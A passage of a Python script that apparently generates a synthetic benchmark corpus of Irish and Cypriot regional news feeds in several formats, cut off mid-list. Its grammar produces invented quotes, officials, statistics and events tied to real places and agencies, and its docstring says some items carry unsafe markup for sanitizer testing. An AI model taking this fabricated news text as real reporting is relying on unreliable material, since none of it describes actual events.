#!/usr/bin/env python3
"""The generated corpus of bench/ingest.sh: COUNT distinct regional news feeds, Irish and Cypriot.

    python3 bench/corpus.py OUTDIR COUNT

Writes COUNT feed files into OUTDIR (created if missing) and prints their names, relative to
OUTDIR, one a line on stdout, in order: the first COUNT // 2 are Irish, the rest Cypriot (the
split of ingest.sh's two regions). The name says what a feed is:

    0001-ie-rss2.xml   0002-ie-atom.atom   0008-ie-cp1252-rss2.xml   0516-cy-el-json.json

NNNN-REGION[-el|-cp1252]-FORMAT.EXT: REGION `ie` or `cy`; `-el` a Greek-language feed;
`-cp1252` an RSS 2.0 feed encoded in windows-1252; FORMAT `rss2`, `atom`, `json` (JSON Feed
1.1) or `rdf` (RSS 1.0); EXT `.xml` (RSS 2.0 and RSS 1.0), `.atom` or `.json`. Two closing
lines on stderr give the totals (ingest.sh reads the byte and item counts of the first) and
the averages per feed against the targets:

    corpus: 1000 files, 79498028 bytes (79.5 MB), 34978 items; formats: rss2 600, atom 250,
    json 100, rdf 50; Greek 150, windows-1252 50; feeds 25-192 KB
    corpus per feed: 79.5 KB, 35.0 items on average (targets: ~80 KB, ~35 items)

(the first is one line).

Deterministic, standard library only: every feed comes from a PRNG seeded with SEED and the
feed's number, so the same COUNT gives the same bytes on every run and every machine.

Each feed: 20-50 items (about 35 on average) of full HTML content (paragraphs, links, now and
then a figure with an <img>, a <blockquote>, a list, a subhead, an embed; in a few items
something an aggregator must sanitize: <script>, on*= handlers, javascript: links, <iframe>,
<style>, <form>), with a title, an author, categories and dates (RFC 822 in RSS 2.0, RFC 3339
in Atom, JSON Feed and RSS 1.0's dc:date); 20-200 KB, about 80 KB on average (so ~80 MB and
~35,000 items for 1,000 feeds). Links and ids carry an article number no other feed uses, so no
entry is shared between feeds. The text comes from a grammar of regional news over a
vocabulary of a few thousand words and names (places, councils, clubs, ferries, water,
housing, tourism...), so entries differ and the text compresses about like prose.

Formats, in every run of 20 feeds: 12 RSS 2.0 (60%), 5 Atom 1.0 (25%), 2 JSON Feed 1.1 (10%),
1 RSS 1.0/RDF (5%). 3 in 10 Cypriot feeds are in Greek (15% of all, UTF-8, any format); 1 in 6
Irish RSS 2.0 feeds is windows-1252 (5% of all: curly quotes, dashes, €, á é í ó ú as real
cp1252 bytes, declared in the XML prolog). All links point at .example hosts: nothing resolves.
"""

import json
import os
import random
import re
import sys
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from xml.sax.saxutils import escape as xml_escape

SEED = 20261130
# Items are dated back from here, newest first (a fixed instant: the same bytes every run).
NEWEST = datetime(2026, 11, 30, 21, 0, tzinfo=timezone.utc)
IRELAND = timezone.utc
CYPRUS = timezone(timedelta(hours=2))

# One run of 20 feeds: 12 rss2, 5 atom, 2 json, 1 rdf.
FORMAT_CYCLE = (
    "rss2 atom rss2 rss2 json rss2 atom rss2 rss2 rdf "
    "rss2 atom rss2 rss2 atom json rss2 rss2 atom rss2"
).split()
EXTENSIONS = {"rss2": "xml", "rdf": "xml", "atom": "atom", "json": "json"}
# Feed size bounds (bytes) the generator keeps within; the brief's 20-200 KB with a margin.
MIN_FEED_BYTES = 21_000
MAX_FEED_BYTES = 195_000
# The averages aimed at: ~80 MB and ~35,000 items for 1,000 feeds.
TARGET_FEED_BYTES = 80_000
TARGET_FEED_ITEMS = 35


def words(text):
    """A list from a '|'-separated string (entries may hold spaces)."""
    return [w.strip() for w in text.split("|") if w.strip()]


# --- English, shared by the Irish and the Cypriot feeds. ---------------------------------------

EN_COMMON = {
    "sentence": [
        "{clause_cap} {time}, {according_to}.",
        "{org_cap} {said_verb} {time} that {clause}.",
        "“{quote},” {said} {person}.",
        "“{quote}. {quote_cap},” {person} told {outlet_ref}.",
        "{person_cap} {said_verb} that {clause}, and that {clause}.",
        "The {thing} {passive} {time} {reason}.",
        "{group_cap} in {place} {react_verb} the {decision_noun}, saying {clause}.",
        "About {number} {group} {attended} a {meeting_kind} in {place_hall} {time} "
        "to discuss {topic}.",
        "The {project}, which {project_detail}, {project_status}.",
        "{org_cap} has {plan_verb} {amount} {amount_purpose}.",
        "{time_cap}, {clause}.",
        "It is understood that {clause}.",
        "{org_cap} said {org_statement}.",
        "Councillors {council_action} at {meeting}.",
        "{person_cap}, who {person_detail}, said {group} {should} {action}.",
        "There were {number} {incident_plural} in {place} {period}, {compare}.",
        "A decision on {topic} is {decision_status} {future_time}.",
        "{weather_sentence}",
        "{sport_sentence}",
        "{clause_cap}, while {clause}.",
        "{clause_cap}; {clause}.",
        "According to {source_doc}, {clause}.",
        "{amount_cap} has been {alloc_verb} for {topic} in {place}, {org} confirmed.",
        "Local businesses {biz_reaction}, saying {clause}.",
        "The {meeting_kind} heard that {clause}.",
        "{person_cap} {urged} {org} to {action} {before_time}.",
        "Figures from {org} show {stat_clause}.",
        "{clause_cap} despite {obstacle}.",
        "The {thing} is expected to {future_action} {future_time}.",
        "{clause_cap}, {person} said, {adding}.",
        "In a statement, {org} said {clause} and {apology}.",
        "{group_cap} have until {deadline} to make submissions on {topic}.",
    ],
    "clause": [
        "{org} {trans_verb} {topic}",
        "the {thing} {passive} {reason}",
        "{group} {intrans_phrase}",
        "the cost of {topic} has {cost_change} to {amount}",
        "work on {topic} {work_status}",
        "{number} {group} {group_event}",
        "the {thing} {will_phrase}",
        "{group} in {place} {intrans_phrase}",
        "the {facility} in {place} {facility_event}",
        "{org} {trans_verb} {topic} in {place}",
        "{stat_clause}",
        "the {decision_noun} {decision_effect}",
    ],
    "quote": [
        "We {feel} that {clause}",
        "This is {judgement} for {place}",
        "{group_cap} {deserve} better than this",
        "We have been {waiting_verb} for {topic} for {years} years",
        "Nobody wants to see {bad_outcome}",
        "The {thing} will {benefit} {group} and {group}",
        "It is {judgement}, plain and simple",
        "We will keep {pressing} until the {thing} {passive_short}",
        "I {feel_i} that {clause}",
        "Our members are {worried} about {topic}",
        "We {welcome} the {decision_noun}, but {clause}",
        "There is {quantity_word} more to do on {topic}",
    ],
    "topic": [
        "the {thing}",
        "the {thing}",
        "{thing_plural}",
        "the {adj} {thing}",
        "plans for {thing_plural_of} in {place}",
        "the {thing} at {place}",
        "the future of the {thing}",
        "the {thing} for {place}",
        "{thing_plural} in {place}",
    ],
    "trans_verb": words(
        "approved|rejected|postponed|welcomed|criticised|unveiled|launched|paused|scrapped|"
        "defended|reviewed|funded|extended|delayed|questioned|backed|opposed|signed off on|"
        "put out to tender|deferred a vote on|published a report on|sought legal advice on|"
        "called for an inquiry into|ordered a review of|raised concerns about|fast-tracked|"
        "secured funding for|withdrew support for|confirmed the timeline for|shortlisted bids for"
    ),
    "passive": words(
        "was approved|was postponed|was delayed again|was finally completed|has been put on hold|"
        "was sent back to the drawing board|was given the go-ahead|was scaled back|"
        "was cut from the budget|has been referred to the courts|was opened to the public|"
        "went out to public consultation|was rejected on appeal|has been fast-tracked|"
        "was quietly shelved|was extended by six months|was signed off|was reduced in size"
    ),
    "passive_short": words("is delivered|is finished|is funded|is reversed|is fixed|gets a date"),
    "reason": words(
        "because of rising costs|after a public consultation|following complaints from residents|"
        "owing to a shortage of contractors|after objections from neighbours|"
        "because of the weather|amid concerns about safety|after an inspection found problems|"
        "pending a report from engineers|following a lengthy debate|due to staff shortages|"
        "after the tender came in over budget|on foot of a planning appeal|"
        "after a petition signed by {number} people|in light of new figures|"
        "after talks broke down|as part of a national scheme|to save money|"
        "under pressure from local representatives|on the advice of the emergency services"
    ),
    "time": words(
        "on Monday|on Tuesday|on Wednesday|on Thursday|on Friday|at the weekend|on Saturday|"
        "on Sunday|last week|earlier this month|this week|yesterday|last night|this morning|"
        "on Monday night|late on Friday|at the start of the month|over the past fortnight|"
        "in recent days|on Tuesday afternoon|at a meeting on Wednesday|earlier today|"
        "last month|at the end of October|over the summer|since September"
    ),
    "future_time": words(
        "next week|next month|in the new year|before Christmas|by the end of the year|"
        "in the spring|early next year|within weeks|in the coming days|by March|"
        "at the next council meeting|before the summer season|by 2028|within six months"
    ),
    "before_time": words(
        "before the winter|as a matter of urgency|without further delay|before the budget|"
        "before the tourist season|within the month|at the earliest opportunity|"
        "before the next storm|by the end of the year"
    ),
    "period": words(
        "so far this year|last year|in the past twelve months|since January|over the summer|"
        "in the first half of the year|in October|last month|in the past three years"
    ),
    "compare": words(
        "up from {number} the year before|down from {number} in the same period last year|"
        "the highest figure on record|a rise of {pct} per cent|a fall of {pct} per cent|"
        "roughly the same as last year|more than double the figure for 2024|"
        "the lowest level in a decade"
    ),
    "according_to": words(
        "according to the council|according to a spokesperson|a source said|officials confirmed|"
        "it has emerged|documents seen by {outlet_ref} show|a report published this week found|"
        "the organisers said|the company said in a statement|local representatives said|"
        "according to figures released under Freedom of Information"
    ),
    "said_verb": words(
        "said|confirmed|announced|warned|insisted|acknowledged|argued|told residents|"
        "told a public meeting|told councillors|stressed|admitted|revealed|indicated"
    ),
    "said": words("said|added|said yesterday|said on Friday|explained|insisted"),
    "adding": words(
        "adding that more needed to be done|adding that the matter was urgent|"
        "adding that talks would continue|adding that the figures spoke for themselves|"
        "adding that the community deserved answers|adding that funding was in place"
    ),
    "apology": words(
        "apologised for the inconvenience|thanked the public for their patience|"
        "said it would keep customers updated|said a full investigation was under way|"
        "said normal services would resume as soon as possible|"
        "said it was working with the relevant agencies"
    ),
    "react_verb": words(
        "welcomed|criticised|reacted angrily to|cautiously welcomed|questioned|"
        "are divided over|have campaigned against|have long called for|were surprised by"
    ),
    "decision_noun": words(
        "decision|announcement|plan|move|proposal|ruling|u-turn|delay|funding allocation|"
        "recommendation|report|timeline|new rules|changes"
    ),
    "decision_effect": words(
        "will affect hundreds of households|comes into force next month|"
        "could be challenged in the High Court|has been broadly welcomed|"
        "caught many by surprise|will be reviewed in a year|means further delays"
    ),
    "decision_status": words(
        "expected|due|not expected until|likely|promised|now unlikely before|pencilled in for"
    ),
    "meeting_kind": words(
        "public meeting|packed meeting|community meeting|special meeting|residents' meeting|"
        "information evening|heated meeting|meeting of the municipal district"
    ),
    "meeting": words(
        "the monthly council meeting|a meeting of the municipal district|"
        "a special meeting of the council|the budget meeting|"
        "a meeting of the strategic policy committee|Monday's council meeting"
    ),
    "council_action": words(
        "voted {vote} in favour of {topic}|unanimously backed {topic}|"
        "voted down {topic} by {vote}|deferred a decision on {topic}|"
        "asked officials for a report on {topic}|passed a motion on {topic}|"
        "clashed over {topic}|called for clarity on {topic}"
    ),
    "vote": words("12 to 4|18 to 9|9 to 7|14 to 3|21 to 10|7 to 6|15 to 11|20 to 2"),
    "attended": words("attended|turned up to|crowded into|came to|took part in"),
    "project_detail": words(
        "was first proposed in {year}|has been beset by delays|is funded by the EU|"
        "has cost {amount} so far|was meant to open last year|has divided the community|"
        "was announced to great fanfare|was the subject of {number} objections|"
        "will create {number} jobs|is due to run until {year2}"
    ),
    "project_status": words(
        "is now expected to be finished {future_time}|is running {months} months behind schedule|"
        "has gone over budget by {amount}|is finally nearing completion|"
        "faces a fresh legal challenge|has been put back out to tender|"
        "is on track, officials insist|has stalled again|will be finished in phases"
    ),
    "plan_verb": words("set aside|earmarked|allocated|committed|ring-fenced|approved|sought"),
    "alloc_verb": words("allocated|set aside|earmarked|secured|approved|ring-fenced"),
    "amount_purpose": words(
        "for the work|to upgrade {topic}|for repairs to {topic}|for a feasibility study|"
        "towards the cost of {topic}|for the first phase|for emergency works|"
        "for community groups in {place}|to buy land for {thing_plural_of}"
    ),
    "org_statement": words(
        "it was aware of the problem|it was working to resolve the issue|"
        "it could not comment on individual cases|the matter was under review|"
        "the works were necessary for safety reasons|it had followed all the correct procedures|"
        "it would engage with residents|talks with the contractor were ongoing|"
        "more details would be published {future_time}|it regretted the delay"
    ),
    "person_detail": words(
        "has lived in {place} all her life|has lived in {place} all his life|"
        "chairs the residents' association|runs a business on the main street|"
        "has campaigned on the issue for years|sits on the board of {org}|"
        "was first elected in {year}|represents the area on the council|"
        "organised the petition|is a retired teacher|is a member of the local development group"
    ),
    "should": words("should|must|needed to|deserved to|could not be expected to|ought to"),
    "action": words(
        "publish the report|act before the winter|meet residents|explain the delay|"
        "reverse the decision|fund the repairs|hire more staff|consult the community|"
        "find an alternative site|restore the service|cut red tape|"
        "put the money on the table|get on with the job"
    ),
    "urged": words("urged|called on|asked|challenged|appealed to|pressed"),
    "source_doc": words(
        "the council's annual report|figures released this week|a report by consultants|"
        "the latest census figures|a survey of {number} households|minutes of the meeting|"
        "the draft development plan|a briefing note to councillors"
    ),
    "biz_reaction": words(
        "have reported a quiet season|are bracing for a difficult winter|"
        "say footfall is up|say the works are driving customers away|"
        "have welcomed the extra visitors|have been hit by higher costs|"
        "are struggling to find staff"
    ),
    "stat_clause": words(
        "{thing_plural} rose by {pct} per cent {period}|"
        "{number} people are on the waiting list for {thing_plural_of}|"
        "the average rent in {place} is now €{rent} a month|"
        "{pct} per cent of {group} are affected|"
        "visitor numbers in {place} were up {pct} per cent {period}|"
        "{number} homes were completed in {place} {period}|"
        "water use in {place} fell by {pct} per cent after the appeal|"
        "the number of {group} in {place} has grown by {pct} per cent"
    ),
    "obstacle": words(
        "opposition from some residents|a shortage of funding|the poor weather|"
        "a legal challenge|rising construction costs|delays in the planning system|"
        "the loss of a key contractor|objections from environmental groups"
    ),
    "future_action": words(
        "open|reopen|go to tender|be completed|be debated again|go before the planners|"
        "be expanded|welcome its first visitors|resume|be reviewed"
    ),
    "deadline": words(
        "Friday|the end of the month|December 15th|January 10th|next Wednesday|the new year"
    ),
    "intrans_phrase": words(
        "have complained about {thing_plural}|are calling for {topic}|say they were not consulted|"
        "are waiting for answers|have been left without water for {hours} hours|"
        "face longer journeys|turned out in large numbers|are worried about {topic}|"
        "have set up a campaign group|say the situation is getting worse|"
        "have lodged an appeal|are being asked to conserve water|were evacuated as a precaution|"
        "have welcomed the news|staged a protest outside the council offices"
    ),
    "group_event": words(
        "signed a petition against {topic}|attended the protest|have applied for {thing_plural_of}|"
        "were affected by the outage|have made submissions|were stranded overnight|"
        "have been placed on the waiting list|turned out for the opening"
    ),
    "will_phrase": words(
        "will go ahead as planned|will be delayed until {future_time}|will cost more than expected|"
        "will be reviewed|could be scrapped|is now in doubt|"
        "will be the first of its kind in the region|"
        "will be funded from the local property tax"
    ),
    "work_status": words(
        "is due to begin {future_time}|has stalled|is almost complete|resumed {time}|"
        "will finish {future_time}|has been suspended|is ahead of schedule|"
        "will take {months} months"
    ),
    "cost_change": words("risen|climbed|increased|jumped|doubled|grown"),
    "facility_event": words(
        "closed its doors for the last time {time}|reopened {time} after a refurbishment|"
        "is to close for three months|will stay open later over Christmas|"
        "celebrated its 50th anniversary {time}|was damaged in a fire {time}|"
        "is to be extended|has been sold"
    ),
    "incident_plural": words(
        "burglaries|road collisions|call-outs|water outages|power cuts|flooding incidents|"
        "complaints|overnight closures|cancellations|rescues"
    ),
    "feel": words("believe|feel strongly|are convinced|have always said|know"),
    "feel_i": words("think|believe|am confident|am afraid|would hope"),
    "judgement": words(
        "a good day|a disgrace|long overdue|a step in the right direction|not good enough|"
        "a huge relief|a missed opportunity|a massive boost|deeply disappointing"
    ),
    "deserve": words("deserve|have been promised|were promised|need|expect"),
    "waiting_verb": words("waiting|campaigning|asking|lobbying|hoping"),
    "bad_outcome": words(
        "another summer of water cuts|families leaving the area|the service cut|"
        "young people forced to emigrate|shops closing on the main street|another year of delays"
    ),
    "benefit": words("benefit|make a real difference to|transform life for|help|protect"),
    "pressing": words("pushing|pressing|campaigning|asking|fighting"),
    "worried": words("worried|anxious|concerned|angry|frustrated|hopeful"),
    "welcome": words("welcome|appreciate|accept|note"),
    "quantity_word": words("a lot|a great deal|much|far|plenty"),
    "adj": words(
        "new|long-awaited|controversial|proposed|revised|delayed|ambitious|scaled-back|"
        "multimillion-euro|much-needed|temporary|permanent|second|planned|upgraded"
    ),
    "years": words("two|three|four|five|six|ten|fifteen|twenty"),
    "months": words("three|four|six|eight|nine|twelve|eighteen"),
    "year": words("2009|2012|2015|2016|2018|2019|2020|2021|2022"),
    "year2": words("2027|2028|2029|2030|2032"),
    "group": words(
        "residents|business owners|parents|farmers|fishermen|hoteliers|commuters|tenants|"
        "students|pensioners|publicans|shopkeepers|teachers|nurses|taxi drivers|"
        "volunteers|homeowners|landlords|families|young people|islanders|cyclists|"
        "bus users|small traders|sports clubs|community groups|carers|walkers"
    ),
}


def number(rng):
    return f"{rng.choice([rng.randint(12, 99), rng.randint(100, 950), rng.randint(1000, 9500)]):,}"


def number_el(rng):
    return number(rng).replace(",", ".")


def amount_eur(rng):
    kind = rng.random()
    if kind < 0.45:
        return f"€{rng.randint(1, 48)}.{rng.randint(1, 9)} million"
    if kind < 0.85:
        return f"€{rng.randint(20, 990)},000"
    return f"€{rng.randint(2, 9)},{rng.randint(100, 999)}"


EN_FUNCS = {
    "number": number,
    "amount": amount_eur,
    "pct": lambda rng: str(rng.randint(3, 64)),
    "hours": lambda rng: str(rng.randint(6, 72)),
    "rent": lambda rng: f"{rng.randint(1, 2)},{rng.randint(100, 950)}",
}

# --- Ireland. ------------------------------------------------------------------------------

IE_PLACES = words(
    "Galway|Cork|Limerick|Sligo|Waterford|Kilkenny|Ennis|Tralee|Killarney|Letterkenny|"
    "Castlebar|Westport|Athlone|Mullingar|Tullamore|Carlow|Wexford|Dundalk|Drogheda|Navan|"
    "Naas|Bray|Dún Laoghaire|Clifden|Oughterard|Salthill|Ballina|Roscommon|Longford|Cavan|"
    "Monaghan|Clonmel|Nenagh|Thurles|Youghal|Kinsale|Bantry|Skibbereen|Dingle|Listowel|"
    "Doolin|Lahinch|Kilrush|Shannon|Carrick-on-Shannon|Buncrana|Bundoran|Strandhill|"
    "Enniscrone|Belmullet|Achill|Inis Mór|Connemara|the Burren|Ballinasloe|Loughrea|Tuam|"
    "Gort|Birr|Portlaoise|Newbridge|Arklow|Gorey|Enniscorthy|New Ross|Rosslare|Dungarvan|"
    "Tramore|Cobh|Mallow|Fermoy|Midleton|Bandon|Clonakilty|Macroom|Mitchelstown|Ballybofey|"
    "Carndonagh|Knock|Claremorris|Ballyhaunis|Spiddal|Carraroe|Ballyvaughan|Kilkee|"
    "Abbeyfeale|Newcastle West|Adare|Kanturk|Castleisland|Kenmare|Cahersiveen|Ballyshannon|"
    "Dungloe|Gweedore|Ardara|Boyle|Ballaghaderreen|Edenderry|Kildare town|Maynooth|Trim|"
    "Kells|Ardee|Carrickmacross|Bailieborough|Granard|Ballymahon|Moate|Kilbeggan|Roscrea|"
    "Templemore|Cashel|Tipperary town|Carrick-on-Suir|Lismore|Callan|Castlecomer|Thomastown|"
    "Bagenalstown|Tullow|Blessington|Wicklow town|Greystones|Skerries|Balbriggan|Ballyjamesduff"
)
IE_ISLANDS = words(
    "Inis Mór|Inis Oírr|Inis Meáin|Arranmore|Tory Island|Cape Clear|Sherkin Island|"
    "Bere Island|Clare Island|Inishbofin|Whiddy Island|Inishturk"
)
IE_ORGS = words(
    "{place} County Council|{place} City Council|the HSE|Uisce Éireann|Bus Éireann|"
    "Iarnród Éireann|the Gardaí|the GAA|Fáilte Ireland|Met Éireann|the OPW|"
    "Údarás na Gaeltachta|Aran Island Ferries|Irish Ferries|the Courts Service|"
    "An Coimisiún Pleanála|the Department of Housing|Tusla|Enterprise Ireland|IDA Ireland|"
    "Coillte|Inland Fisheries Ireland|the RNLI|the Irish Coast Guard|the ESB|EirGrid|"
    "the National Transport Authority|Transport Infrastructure Ireland|the Land Development Agency|"
    "the Environmental Protection Agency|the Health Information and Quality Authority|"
    "the {place} Chamber of Commerce|the Irish Farmers' Association|the Vintners' Federation|"
    "the Irish Hotels Federation|the Department of Education|the Western Development Commission|"
    "the Local Enterprise Office|the {place} Municipal District|the Heritage Council|"
    "Sport Ireland|the Arts Council|the National Parks and Wildlife Service|the Marine Institute"
)
IE_FIRST = words(
    "Seán|Niamh|Aoife|Ciarán|Pádraig|Siobhán|Máire|Eoin|Conor|Orla|Declan|Gráinne|Liam|"
    "Róisín|Cathal|Éamonn|Tadhg|Síle|Donal|Fionnuala|Mícheál|Deirdre|Colm|Aisling|Tomás|"
    "Maeve|Ronan|Clodagh|Darragh|Caoimhe|Brendan|Úna|Fergal|Sorcha|Diarmuid|Nuala|Kevin|"
    "Bríd|Oisín|Mairéad|Shane|Eimear|Cillian|Ailbhe|Noel|Bernadette|Rory|Gearóid|Emer|Padraic|"
    "Séamus|Éabha|Aodhán|Ríona|Réamonn|Sinéad|Dónal|Pádraigín"
)
IE_LAST = words(
    "O’Brien|Ó Súilleabháin|Murphy|Kelly|Walsh|O’Connor|Ní Bhriain|Byrne|Ryan|O’Neill|"
    "Doherty|McCarthy|Gallagher|Kennedy|Lynch|Quinn|Ó Flaithearta|Fitzgerald|Moran|Keane|"
    "Nolan|Hennessy|Brennan|Ó Catháin|Mulligan|Ní Fhlatharta|Coyne|Joyce|Conneely|Burke|"
    "Flaherty|Mac Donncha|Ní Chonghaile|Hynes|Kavanagh|Dunne|Healy|Cullinane|Ó Sé|Moriarty|"
    "Fahy|Greally|Durkan|McHugh|Boyle|Sweeney|Ó Domhnaill|Cronin|Crowley|Harte"
)
IE = {
    "place": IE_PLACES,
    "place_hall": words(
        "{place}|the community centre in {place}|the parish hall in {place}|"
        "a hotel in {place}|the GAA clubhouse in {place}|the library in {place}"
    ),
    "org": IE_ORGS,
    "person": words(
        "Councillor {first} {last}|Cllr {first} {last}|{first} {last}, a spokesperson for {org}|"
        "the Cathaoirleach of the council, {first} {last}|local TD {first} {last}|"
        "Minister of State {first} {last}|{first} {last}, who runs a {business} in {place}|"
        "{first} {last} of the {place} residents' association|Garda Sergeant {first} {last}|"
        "{first} {last}, the organiser of the {place} Féile|"
        "{first} {last}, who runs the café on the pier|"
        "the council's director of services, {first} {last}|{first} {last}|{first} {last}|"
        "the club chairman, {first} {last}|Senator {first} {last}|Dr {first} {last}"
    ),
    "first": IE_FIRST,
    "last": IE_LAST,
    "business": words(
        "café|pub|B&B|hardware shop|butcher’s|pharmacy|bakery|surf school|bike hire business|"
        "boatyard|garage|bookshop|hotel|restaurant|craft shop|fish shop"
    ),
    "outlet_ref": words("the {outlet}|this newspaper|local radio|{outlet} reporters"),
    "thing": words(
        "housing scheme|greenway|water treatment plant|ring road|bypass|ferry timetable|"
        "harbour development|town centre plan|park-and-ride|bus corridor|library extension|"
        "swimming pool|community centre|school extension|primary care centre|"
        "flood defence scheme|wastewater treatment plant|broadband rollout|cycle lane|"
        "multi-storey car park|marina|pier|playground|skate park|hospital wing|nursing home|"
        "Gaeltacht language plan|data centre|wind farm|solar farm|quarry extension|"
        "student accommodation block|social housing development|cost-rental scheme|"
        "derelict site|Christmas market|tourism strategy|heritage centre|coastal path|"
        "bog restoration project|regional airport|rail line|emergency department|"
        "Garda station|fire station|sports campus|tidal lagoon|sea wall|boil water notice|"
        "water mains replacement|bridge repair|urban regeneration scheme|digital hub"
    ),
    "thing_plural": words(
        "rents|house prices|hospital waiting lists|parking charges|bus fares|ferry fares|"
        "planning appeals|vacant homes|hotel bookings|visitor numbers|school places|"
        "GP services|commercial rates|road repairs|potholes|speed limits|trolley numbers|"
        "water outages|holiday home numbers|rural bus routes|Garda numbers|childcare places"
    ),
    "thing_plural_of": words(
        "social homes|student beds|cycle lanes|public toilets|new classrooms|bus shelters|"
        "electric vehicle chargers|allotments|affordable homes|starter units|holiday homes"
    ),
    "facility": words(
        "post office|library|leisure centre|swimming pool|credit union|bank branch|cinema|"
        "Garda station|community hospital|hotel|factory|creamery|mart|tourist office|hostel"
    ),
    "project": words(
        "greenway|bypass|ring road|harbour project|flood scheme|town park|regeneration scheme|"
        "water supply scheme|port extension|library project|housing development"
    ),
    "outlet": words(
        "Connacht Tribune|Western People|Limerick Leader|Sligo Champion|Kerryman|"
        "Clare Champion|Galway Advertiser|Mayo News|Southern Star|Donegal Democrat"
    ),
    "weather_sentence": words(
        "Met Éireann has issued a {colour} weather warning for {county}, with gusts of up to "
        "{kmh} km/h expected along the coast.|"
        ""
        "Up to {mm} mm of rain fell in {place} overnight, and several roads were closed "
        "by flooding.|"
        ""
        "Sailings to {island} were cancelled on {day} because of the swell, the ferry "
        "operator said.|"
        "Temperatures are expected to drop to minus {temp} degrees in parts of {county} tonight, "
        "and gritters will be out from 6pm.|"
        "The council has asked people to avoid the promenade in {place} during high tide.|"
        "Storm {storm} left {number} homes in {county} without power at the height of the winds."
    ),
    "sport_sentence": [lambda rng: gaa_sentence(rng)],
    "county": words(
        "Galway|Mayo|Sligo|Clare|Kerry|Cork|Limerick|Donegal|Leitrim|Roscommon|Waterford|"
        "Wexford|Tipperary|Kilkenny|Offaly|Westmeath|Longford|Cavan|Monaghan|Louth|Meath|"
        "Kildare|Laois|Carlow|Wicklow"
    ),
    "island": IE_ISLANDS,
    "storm": words("Bran|Éowyn|Ciarán|Aileen|Darragh|Floris|Isha|Jocelyn|Kathleen|Lilian"),
    "colour": words("status yellow|status orange|status yellow|status red"),
    "day": words("Monday|Tuesday|Wednesday|Thursday|Friday|Saturday|Sunday"),
    "kmh": lambda rng: str(rng.choice([90, 100, 110, 120, 130, 140])),
    "mm": lambda rng: str(rng.randint(25, 80)),
    "temp": lambda rng: str(rng.randint(2, 7)),
}
GAA_CLUBS = words(
    "Corofin|Moycullen|St Thomas’|Sarsfields|Na Piarsaigh|Ballygunner|Nemo Rangers|"
    "Castlebar Mitchels|Tourlestrane|Kilmacud Crokes|Ballyhale Shamrocks|Loughmore-Castleiney|"
    "Mullinahone|Dr Crokes|Austin Stacks|Kerins O’Rahilly’s|Claregalway|Annaghdown|"
    "Salthill-Knocknacarra|Killererin|Ballintubber|Knockmore|Breaffy|Coolera-Strandhill|"
    "Eastern Harps|St Mary’s|Clonmel Commercials|Kilmallock|Patrickswell|Sixmilebridge|"
    "Clonlara|Ballyea|Feakle|Naomh Conaill|Gaoth Dobhair|Kilcar|St Brigid’s|Padraig Pearses"
)


def gaa_sentence(rng):
    home, away = rng.sample(GAA_CLUBS, 2)
    code = rng.choice(["hurlers", "footballers", "camogie team", "ladies footballers"])
    score = f"{rng.randint(0, 3)}-{rng.randint(9, 24)} to {rng.randint(0, 2)}-{rng.randint(6, 18)}"
    competition = rng.choice(
        [
            "county senior final",
            "Connacht club semi-final",
            "Munster club quarter-final",
            "All-Ireland club semi-final",
            "intermediate championship",
            "league final",
            "county junior B final",
            "Ulster club final",
        ]
    )
    templates = [
        f"{home} beat {away} {score} in the {competition} at the weekend.",
        f"{home}’s {code} are through to the {competition} after a {score} win over {away}.",
        f"It took extra time, but {home} finally saw off {away} {score} in the {competition}.",
        f"{away} manager {rng.choice(IE_FIRST)} {rng.choice(IE_LAST)} said his side "
        f"had “left it behind them” after the {score} defeat to {home}.",
        f"The {competition} between {home} and {away} has been refixed for Sunday at 2pm "
        f"because of a waterlogged pitch.",
    ]
    return rng.choice(templates)


IE_HEADLINES = [
    "{place} councillors approve {amount} plan for {thing_plural_of}",
    "Residents in {place} object to {adj} {thing}",
    "{org_cap} confirms further delay to {place} {thing}",
    "Ferry sailings to {island} cancelled as Storm {storm} approaches",
    "Gardaí appeal for witnesses after {incident} in {place}",
    "Boil water notice lifted for {number} homes in {place}",
    "Green light for {adj} {thing} in {place}",
    "{place} traders warn of {problem}",
    "Court hears {place} {court_person} {court_act}",
    "{number} new homes planned for {place}",
    "Tourism numbers up {pct}% in {place} this season",
    "Met Éireann issues {colour} warning for {county}",
    "{place} {thing} {hl_status}",
    "Fundraiser for {place} {cause} passes {amount}",
    "{club} through to {competition} after win over {club}",
    "‘{short_quote}’ – {place} {group} on {topic_short}",
    "{org_cap} to spend {amount} on {thing_plural_of} in {county}",
    "Public meeting in {place} over {topic_short}",
    "{place} {facility} to close after {years} years",
    "Plans for {number} {thing_plural_of} in {place} lodged",
    "Council to review {thing_plural} after {place} complaints",
    "{county} ‘left behind’ on {topic_short}, says TD",
    "New {business} opens on {place} main street",
    "{place} {centenarian}",
    "Rescue off {place} after {rescue_what}",
    "What the budget means for {group} in {county}",
]
IE_HL = {
    "incident": words(
        "burglary|hit-and-run|break-in at a shop|assault on the main street|"
        "theft of farm machinery|"
        "arson attack|cash machine theft|late-night disturbance"
    ),
    "problem": words(
        "a winter of closures|rising insurance costs|parking chaos|the loss of the bus service|"
        "a drop in footfall|the impact of the roadworks|a staffing crisis"
    ),
    "court_person": words("man|woman|farmer|businessman|teenager|driver|publican|landlord"),
    "court_act": words(
        "denies the charges|was over the limit|caused €40,000 in damage|"
        "breached planning rules|fined for illegal dumping|ordered to pay compensation"
    ),
    "hl_status": words(
        "back on track|delayed again|finally opens|faces legal challenge|goes to tender|"
        "costs soar|put on hold|gets funding boost"
    ),
    "cause": words(
        "hospice|lifeboat crew|playground|local hurler|community centre roof|school bus|"
        "defibrillator|Men’s Shed"
    ),
    "club": GAA_CLUBS,
    "competition": words(
        "county final|Connacht semi-final|Munster final|All-Ireland semi-final|league decider"
    ),
    "short_quote": words(
        "We were never consulted|It’s a disgrace|Finally, some good news|We can’t go on like this|"
        "This will change everything|It’s about time|We’re not going anywhere"
    ),
    "topic_short": words(
        "housing|the bypass|water supply|the ferry|hospital waits|rural buses|the greenway|"
        "broadband|wind farm plan|school places|derelict sites|the new pier"
    ),
    "centenarian": words(
        "woman celebrates her 100th birthday|woman celebrates her 101st birthday|"
        "man celebrates his 100th birthday|couple celebrate 70 years of marriage|"
        "woman celebrates her 102nd birthday|postmaster retires after 50 years"
    ),
    "rescue_what": words(
        "kayakers get into difficulty|boat loses power|walkers stranded by tide|"
        "swimmer swept out|fishing vessel runs aground"
    ),
}

# --- Cyprus, in English. --------------------------------------------------------------------

CY_PLACES = words(
    "Nicosia|Limassol|Larnaca|Paphos|Famagusta|Kyrenia|Ayia Napa|Protaras|Paralimni|"
